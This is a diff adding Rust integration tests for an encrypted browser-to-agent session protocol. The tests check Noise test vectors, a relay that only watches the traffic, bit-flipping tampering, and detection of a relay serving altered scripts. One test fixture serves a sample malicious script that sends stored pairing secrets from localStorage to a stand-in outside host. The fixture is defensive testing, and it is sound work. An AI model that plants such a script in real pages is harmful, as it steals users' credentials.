@@ -1,0 +1,340 @@
+//! The web client's sealed sessions (docs/PROTOCOL.md, "Sealed sessions (protocol 3)"), in
+//! Chromium: its Noise implementation reproduces the published vectors, the page completes a
+//! sealed session with the real agent through the real relay and runs a tool (the relay's view of
+//! it holds none of the plaintext), and a relay that flips one bit of the page's frames ends the
+//! session with nothing run.
+
+use std::sync::atomic::{AtomicBool, Ordering};
+use std::sync::Arc;
+
+use serde_json::{json, Value};
+use tokio_tungstenite::tungstenite::Message;
+use voxa::agent::LinkEvent;
+use voxa::protocol::ErrorCode;
+
+use crate::browser::{Browser, Scheme};
+use crate::harness::*;
+use crate::sealed::{audit_lines, flip_one_bit, Mitm, Way};
+
+/// Text of the terminal output, as shown.
+const TERMINAL: &str = "#term-out";
+
+/// The page's Noise handshake and transport, both roles, with the vector's fixed keys: every
+/// message and the handshake hash as hex.
+const VECTOR_RUN: &str = "const [v, done] = arguments;
+    import('/js/seal/noise.js').then(async (noise) => {
+        const hex = (b) => Array.from(b, (x) => x.toString(16).padStart(2, '0')).join('');
+        const bytes = (h) => Uint8Array.from(h.match(/../g) || [], (x) => parseInt(x, 16));
+        const side = (initiator, p) => noise.Handshake.begin({ initiator, psk: bytes(v[p + '_psks'][0]),
+            prologue: bytes(v[p + '_prologue']), ephemeral: bytes(v[p + '_ephemeral']) });
+        const [init, resp] = [await side(true, 'init'), await side(false, 'resp')];
+        const sent = [], read = [];
+        const one = await init.writeMessage(bytes(v.messages[0].payload));
+        sent.push(hex(one));
+        read.push(hex(await resp.readMessage(one)));
+        const two = await resp.writeMessage(bytes(v.messages[1].payload));
+        sent.push(hex(two));
+        read.push(hex(await init.readMessage(two)));
+        const [a, b] = [await init.split(), await resp.split()];
+        for (let i = 2; i < v.messages.length; i += 1) {
+            const [writer, reader] = i % 2 === 0 ? [a.send, b.receive] : [b.send, a.receive];
+            const message = await writer.encrypt(new Uint8Array(0), bytes(v.messages[i].payload));
+            sent.push(hex(message));
+            read.push(hex(await reader.decrypt(new Uint8Array(0), message)));
+        }
+        done({ sent, read, hash: hex(a.hash), responderHash: hex(b.hash) });
+    }).catch((error) => done({ error: String(error) }));";
+
+/// voxa's layer in the page: the documented key schedule inputs, a frame split at the part limit
+/// and joined again, and a flipped bit refused.
+const CHANNEL_RUN: &str = "const [token, challenge, done] = arguments;
+    Promise.all([import('/js/seal/noise.js'), import('/js/seal/channel.js')]).then(async ([noise, seal]) => {
+        const hex = (b) => Array.from(b, (x) => x.toString(16).padStart(2, '0')).join('');
+        const key = await seal.psk(token);
+        const prologue = new TextDecoder().decode(seal.prologue(challenge));
+        const hello = await seal.startHello(token, challenge);
+        const agent = await noise.Handshake.begin({ initiator: false, psk: key, prologue: seal.prologue(challenge) });
+        await agent.readMessage(hello.message);
+        const reply = await agent.writeMessage(new TextEncoder().encode('{\"type\":\"hello_ok\"}'));
+        const { payload, channel } = await hello.finish(reply);
+        const keys = await agent.split();
+        const peer = new seal.Channel(keys.send, keys.receive);
+        const big = 'x'.repeat(seal.MAX_PART + 1);
+        const parts = await Promise.all(channel.sealJson(big));
+        const opened = [];
+        for (const part of parts) opened.push(await peer.open(part));
+        const flipped = (await Promise.all(channel.sealJson('{}')))[0];
+        flipped[5] ^= 1;
+        const refused = await peer.open(flipped).then(() => 'opened', (e) => e.constructor.name);
+        done({ psk: hex(key), prologue, payload, sizes: parts.map((p) => p.length),
+            joined: opened[1] && opened[1].text === big, first: opened[0], refused,
+            helloLength: hello.message.length });
+    }).catch((error) => done({ error: String(error) }));";
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_page_reproduces_the_published_noise_vectors_and_the_documented_framing() {
+    let Some(browser) = Browser::start().await else { return };
+    let relay = TestRelay::start().await;
+    browser.open(&format!("http://{}/", relay.addr)).await;
+    let fixture: Value =
+        serde_json::from_str(include_str!("../fixtures/noise/NNpsk0_25519_AESGCM_SHA256.json")).unwrap();
+    let vector = &fixture["vectors"][0];
+    assert_eq!(vector["protocol_name"], "Noise_NNpsk0_25519_AESGCM_SHA256");
+    let ran = browser.client.execute_async(VECTOR_RUN, vec![vector.clone()]).await.unwrap();
+    assert_eq!(ran["error"], Value::Null, "{ran}");
+    let messages = vector["messages"].as_array().unwrap();
+    assert_eq!(ran["sent"].as_array().unwrap().len(), messages.len());
+    for (i, message) in messages.iter().enumerate() {
+        assert_eq!(ran["sent"][i], message["ciphertext"], "message {i}");
+        assert_eq!(ran["read"][i], message["payload"], "message {i} read back");
+    }
+    assert_eq!(ran["hash"], vector["handshake_hash"]);
+    assert_eq!(ran["responderHash"], vector["handshake_hash"]);
+
+    // The values docs/PROTOCOL.md's sealed-session section and src/seal's unit tests use.
+    let (token, challenge) = ("00112233445566778899aabbccddeeff", "0123456789abcdef0123456789abcdef");
+    let ran = browser.client.execute_async(CHANNEL_RUN, vec![json!(token), json!(challenge)]).await.unwrap();
+    assert_eq!(ran["error"], Value::Null, "{ran}");
+    assert_eq!(ran["psk"], "fed243563102e6b2b86f65b0221a0a338496766d18898c2ab8ebd6f73ccdf1cb");
+    assert_eq!(ran["prologue"], format!("voxa/3\n{challenge}"));
+    assert_eq!(ran["helloLength"], 48, "message 1 is the ephemeral key and an empty payload's tag");
+    assert_eq!(ran["payload"], r#"{"type":"hello_ok"}"#);
+    // 65,519 bytes of JSON: one full part (65,518 + kind + tag = 65,535) and a last part of one byte.
+    assert_eq!(ran["sizes"], json!([65_535, 18]));
+    assert_eq!((ran["first"].clone(), ran["joined"].clone()), (Value::Null, Value::Bool(true)));
+    assert_eq!(ran["refused"], "Broken");
+    browser.close().await;
+}
+
+/// The connection's seal mark, as shown (empty when hidden).
+async fn seal_mark(browser: &Browser) -> String {
+    let shown = "const mark = document.getElementById('seal-mark'); return mark.hidden ? '' : mark.textContent;";
+    browser.script(shown, vec![]).await.as_str().unwrap_or_default().to_owned()
+}
+
+/// Sealed and plain sessions the agent holds, as its `status` says.
+async fn session_counts(agent: &TestAgent) -> (u64, u64) {
+    let mut local = agent.local_client().await;
+    send(&mut local, json!({"type":"status"})).await;
+    let status = recv_type(&mut local, "status").await;
+    (status["sealed_sessions"].as_u64().unwrap(), status["plain_sessions"].as_u64().unwrap())
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_page_seals_its_session_with_the_real_agent_through_the_real_relay_and_runs_a_tool() {
+    let Some(browser) = Browser::start().await else { return };
+    let relay = TestRelay::start().await;
+    let agent = TestAgent::start(Some(relay.url())).await;
+    // A relay that only watches: the page and its socket pass through, every frame is kept.
+    let mitm = Mitm::start(relay.addr, agent.code(), Box::new(|_, m| vec![m])).await;
+    browser.open(&format!("http://{}/#code={}&token={}", mitm.addr, agent.code(), agent.token())).await;
+    browser.wait_connection("online").await;
+    assert_eq!(seal_mark(&browser).await, "sealed");
+    // The page's session and the status client beside it: both sealed, none plain.
+    assert_eq!(session_counts(&agent).await, (2, 0));
+
+    let secret = "a-file-only-the-laptop-holds-4e1d";
+    std::fs::write(agent.workspace.path().join("private.txt"), secret).unwrap();
+    browser.type_into("Command", "cat private.txt; echo; echo typed-on-the-phone-8c2f").await;
+    browser.press("Run").await;
+    browser
+        .wait_text(TERMINAL, "the command's output", |t| t.contains(secret) && t.contains("typed-on-the-phone-8c2f\n"))
+        .await;
+    eventually("the command audited", || {
+        audit_lines(&agent).iter().any(|line| line["tool"] == "run_command" && line["outcome"] == "ok")
+    })
+    .await;
+
+    let capture = mitm.capture.lock().unwrap().clone();
+    let plaintexts = [secret, "typed-on-the-phone-8c2f", "run_command", "tool_result", agent.token()];
+    let mut hello_ok = false;
+    for (way, message) in &capture {
+        let bytes = message.clone().into_data();
+        for plain in plaintexts {
+            assert!(!bytes.windows(plain.len()).any(|w| w == plain.as_bytes()), "{way:?} frame shows {plain:?}");
+        }
+        match message {
+            Message::Text(text) if hello_ok => {
+                assert!(voxa::seal::socket::relay_notice(text).is_some(), "unsealed after the hello: {text}")
+            }
+            Message::Text(text) => hello_ok = text.contains("\"hello_ok\""),
+            _ => {}
+        }
+    }
+    assert!(hello_ok, "the page's hello_ok crossed the relay");
+    let hello = capture.iter().find_map(|(way, m)| match m {
+        Message::Text(text) if *way == Way::Up && text.contains("\"hello\"") => Some(text.to_string()),
+        _ => None,
+    });
+    let hello: Value = serde_json::from_str(&hello.expect("the page's hello")).unwrap();
+    assert_eq!((hello["protocol"].clone(), hello.get("proof")), (json!(3), None), "{hello}");
+    assert!(capture.iter().filter(|(way, m)| *way == Way::Up && m.is_binary()).count() >= 1);
+
+    // The loopback page (`voxa open`) seals its session too.
+    let loopback = agent.loopback_url().replace("ws://", "http://");
+    browser.open(&format!("{loopback}#token={}", agent.token())).await;
+    browser.wait_connection("online").await;
+    assert_eq!(seal_mark(&browser).await, "sealed");
+    browser.type_into("Command", "echo over-the-loopback-page").await;
+    browser.press("Run").await;
+    browser.wait_text(TERMINAL, "the command's output", |t| t.contains("over-the-loopback-page\n")).await;
+    browser.close().await;
+}
+
+/// A hook that flips one bit of every sealed frame going `way` once `armed`.
+fn flip_when(armed: Arc<AtomicBool>, way: Way) -> crate::sealed::Hook {
+    Box::new(move |through, message| {
+        if through == way && message.is_binary() && armed.load(Ordering::SeqCst) {
+            vec![flip_one_bit(message)]
+        } else {
+            vec![message]
+        }
+    })
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_relay_that_flips_one_bit_of_the_pages_frames_ends_the_session_and_nothing_runs() {
+    let Some(browser) = Browser::start().await else { return };
+    let relay = TestRelay::start().await;
+    let mut agent = TestAgent::start(Some(relay.url())).await;
+    let workspace = agent.workspace.path().to_path_buf();
+
+    // Toward the laptop: the page's tool call arrives altered; the agent runs nothing of it.
+    let armed = Arc::new(AtomicBool::new(false));
+    let mitm = Mitm::start(relay.addr, agent.code(), flip_when(armed.clone(), Way::Up)).await;
+    browser.open(&format!("http://{}/#code={}&token={}", mitm.addr, agent.code(), agent.token())).await;
+    browser.wait_connection("online").await;
+    assert_eq!(seal_mark(&browser).await, "sealed");
+    armed.store(true, Ordering::SeqCst);
+    browser.type_into("Command", "echo ran > altered.txt").await;
+    browser.press("Run").await;
+    agent
+        .wait_event("the agent ends the broken session", |event| {
+            matches!(event, LinkEvent::PeerRefused { code: ErrorCode::SealedSessionBroken })
+        })
+        .await;
+    let said = browser.wait_connection("altered").await;
+    assert!(said.contains("nothing in it ran"), "{said}");
+    assert_eq!(seal_mark(&browser).await, "", "no mark on a session that ended");
+    browser.control("button", "Reconnect").await;
+    assert!(!workspace.join("altered.txt").exists());
+    assert!(!audit_lines(&agent).iter().any(|line| line["tool"] == "run_command"), "the altered call was audited");
+
+    // Toward the phone: the agent's answer arrives altered; the page closes the session itself.
+    let armed = Arc::new(AtomicBool::new(false));
+    let mitm = Mitm::start(relay.addr, agent.code(), flip_when(armed.clone(), Way::Down)).await;
+    browser.open(&format!("http://{}/#code={}&token={}", mitm.addr, agent.code(), agent.token())).await;
+    browser.wait_connection("online").await;
+    armed.store(true, Ordering::SeqCst);
+    browser.type_into("Command", "echo answered").await;
+    browser.press("Run").await;
+    browser.wait_connection("altered").await;
+    // A browser may close only with 1000 or 3000–4999: 1000, and the reason.
+    eventually("the page closes its socket 1000 sealed-session-broken", || {
+        mitm.capture.lock().unwrap().iter().any(|(way, m)| {
+            *way == Way::Up
+                && matches!(m, Message::Close(Some(frame))
+                    if u16::from(frame.code) == 1000 && frame.reason == "sealed-session-broken")
+        })
+    })
+    .await;
+    browser.close().await;
+}
+
+/// A front for a relay that serves one file of the page altered and passes everything else on.
+async fn altering_front(relay: std::net::SocketAddr, altered: &'static str) -> std::net::SocketAddr {
+    use tokio::io::{AsyncReadExt, AsyncWriteExt};
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = listener.local_addr().unwrap();
+    tokio::spawn(async move {
+        while let Ok((mut tcp, _)) = listener.accept().await {
+            tokio::spawn(async move {
+                let mut head = Vec::new();
+                let mut byte = [0u8; 1];
+                while !head.ends_with(b"\r\n\r\n") && head.len() < 8192 {
+                    if tcp.read(&mut byte).await.unwrap_or(0) == 0 {
+                        return;
+                    }
+                    head.push(byte[0]);
+                }
+                if head.starts_with(format!("GET {altered} ").as_bytes()) {
+                    let body = "fetch('https://elsewhere.example/?' + localStorage.getItem('voxa.pairings'));";
+                    let answer =
+                        format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}", body.len());
+                    let _ = tcp.write_all(answer.as_bytes()).await;
+                    return;
+                }
+                let Ok(mut upstream) = tokio::net::TcpStream::connect(relay).await else { return };
+                if upstream.write_all(&head).await.is_ok() {
+                    let _ = tokio::io::copy_bidirectional(&mut tcp, &mut upstream).await;
+                }
+            });
+        }
+    });
+    addr
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_agent_compares_the_page_the_relay_serves_with_its_own() {
+    use voxa::net::page_check::{check, RelayPage};
+    let dial = voxa::net::dial::DialOptions::default();
+    let relay = TestRelay::start().await;
+    let same = check(&relay.url(), &dial).await;
+    assert!(matches!(same, RelayPage::Same { files } if files > 10), "{same:?}");
+    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
+    let url = voxa::config::RelayUrl::parse(&format!("http://{closed}")).unwrap();
+    assert!(matches!(check(&url, &dial).await, RelayPage::Unchecked { .. }));
+
+    // A relay serving one script altered (the agent's socket passes through it untouched).
+    let front = altering_front(relay.addr, "/js/session.js").await;
+    let url = voxa::config::RelayUrl::parse(&format!("http://{front}")).unwrap();
+    let altered = RelayPage::Altered { paths: vec!["/js/session.js".into()] };
+    assert_eq!(check(&url, &dial).await, altered);
+    let mut agent = TestAgent::start(Some(url.clone())).await;
+    let event = agent.wait_event("the page compared", |e| matches!(e, LinkEvent::RelayPage { .. })).await;
+    assert_eq!(event, LinkEvent::RelayPage { page: altered.clone() });
+    let mut local = agent.local_client().await;
+    send(&mut local, json!({"type":"status"})).await;
+    let status = recv_type(&mut local, "status").await;
+    assert_eq!(status["relay_page"], json!({"state": "altered", "paths": ["/js/session.js"]}), "{status}");
+
+    // `doctor` says so too, and fails on it; against the real relay it is fine.
+    let dir = tempfile::tempdir().unwrap();
+    let home = dir.path().join("voxa");
+    let doctor = |relay: &str| {
+        let out = crate::support::voxa_cmd(&home).args(["--relay", relay, "doctor", "--json"]).output().unwrap();
+        let report: Value = serde_json::from_slice(&out.stdout).unwrap();
+        let checks = report["checks"].as_array().unwrap().clone();
+        checks
+            .into_iter()
+            .find(|c| c["check"] == "relay page")
+            .unwrap_or_else(|| panic!("no relay page check: {report}"))
+    };
+    let found = doctor(&format!("http://{front}"));
+    assert_eq!(found["status"], "fail", "{found}");
+    assert!(found["message"].as_str().unwrap().contains("/js/session.js"), "{found}");
+    assert_eq!(doctor(&format!("http://{}", relay.addr))["status"], "ok");
+}
+
+/// Pictures of the sealed mark in both schemes (`VOXA_DOCS_SCREENSHOTS=1` writes them to docs/).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn pictures_of_the_sealed_mark_light_and_dark() {
+    let scratch = tempfile::tempdir().unwrap();
+    let out = match std::env::var_os("VOXA_DOCS_SCREENSHOTS") {
+        Some(_) => std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("docs"),
+        None => scratch.path().to_owned(),
+    };
+    let relay = TestRelay::start().await;
+    let agent = TestAgent::start(Some(relay.url())).await;
+    for (scheme, name) in [(Scheme::Light, "web-sealed.png"), (Scheme::Dark, "web-sealed-dark.png")] {
+        let Some(browser) = Browser::start_with(scheme).await else { return };
+        browser.open(&format!("http://{}/#code={}&token={}", relay.addr, agent.code(), agent.token())).await;
+        browser.wait_connection("online").await;
+        browser.type_into("Command", "echo this session is sealed end to end").await;
+        browser.press("Run").await;
+        browser.wait_script("the command's end", "return !document.getElementById('run').disabled;").await;
+        assert_eq!(seal_mark(&browser).await, "sealed");
+        crate::web::save_picture(&browser, &out, name).await;
+        browser.close().await;
+    }
+}
